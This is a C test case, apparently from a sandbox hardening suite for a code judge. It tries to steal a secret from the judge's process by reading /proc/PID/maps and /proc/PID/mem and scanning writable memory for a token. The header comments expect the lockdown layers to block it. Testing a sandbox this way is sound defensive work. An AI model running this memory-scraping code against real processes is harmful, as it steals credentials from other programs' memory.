// id: I01
// does: reads the secret out of the judge's memory, by /proc/PID/maps and /proc/PID/mem
// expect: WA
// layers.lockdown: separate-uid capabilities landlock-files landlock-network landlock-scopes
// Everywhere else the user namespace, which cannot be left out, denies it besides.
// control: bare
// control.lockdown: layers
static int is_secret(const char *text) {
    if (!has_token(text, 7)) return 0;
    size_t size = 7;
    while ((text[size] >= 'a' && text[size] <= 'z') || (text[size] >= '0' && text[size] <= '9')) size++;
    return size > 40;  // the name of the folder begins as the secret does
}

static int search(int memory, unsigned long from, unsigned long to) {
    enum { BLOCK = 1 << 20, OVERLAP = 128 };
    static char bytes[BLOCK + 1];
    for (; from < to; from += BLOCK - OVERLAP) {
        size_t wanted = to - from < BLOCK ? to - from : BLOCK;
        ssize_t size = pread(memory, bytes, wanted, (off_t)from);
        for (ssize_t i = 0; i + OVERLAP < size; i++)
            if (bytes[i] == 'c' && is_secret(bytes + i)) return 1;
    }
    return 0;
}

ATTACK int attack(void) {
    char path[64], line[512];
    snprintf(path, sizeof path, "/proc/%d/maps", JUDGE_PID);
    FILE *maps = fopen(path, "r");
    snprintf(path, sizeof path, "/proc/%d/mem", JUDGE_PID);
    int memory = open(path, O_RDONLY), found = 0;
    if (!maps || memory < 0) note("open: %s", strerror(errno));
    while (maps && memory >= 0 && !found && fgets(line, sizeof line, maps)) {
        unsigned long from, to, inode = 1;
        char mode[8];
        if (sscanf(line, "%lx-%lx %7s %*s %*s %lu", &from, &to, mode, &inode) != 4) continue;
        if (mode[0] == 'r' && mode[1] == 'w' && !inode && to - from < 64ul << 20) found = search(memory, from, to);
    }
    return found;
}
